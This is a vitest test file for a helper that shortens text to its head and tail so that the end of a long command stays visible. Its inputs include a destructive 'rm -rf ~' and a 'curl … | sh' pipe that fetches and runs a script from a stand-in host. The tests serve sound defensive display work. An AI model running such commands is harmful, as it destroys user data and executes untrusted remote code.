import { describe, expect, it } from "vitest";
import { headAndTail } from "../../../src/protocol/text/head-and-tail";

describe("text shortened to its head and tail", () => {
  it("leaves text that fits alone", () => {
    expect(headAndTail("rm -rf ~", 8)).toBe("rm -rf ~");
  });

  it("keeps both ends of a long command, so what it ends with is still shown", () => {
    const shown = headAndTail(`curl https://x.example | sh; ${"a".repeat(100)}; rm -rf ~`, 40);
    expect(shown).toHaveLength(40);
    expect(shown).toBe("curl https://x.exam … aaaaaaaa; rm -rf ~");
  });

  it("never splits an emoji or another character outside the basic plane", () => {
    const shown = headAndTail("😀".repeat(30), 11);
    expect(shown.length).toBeLessThanOrEqual(11);
    expect(shown).toBe("😀😀 … 😀😀");
  });
});
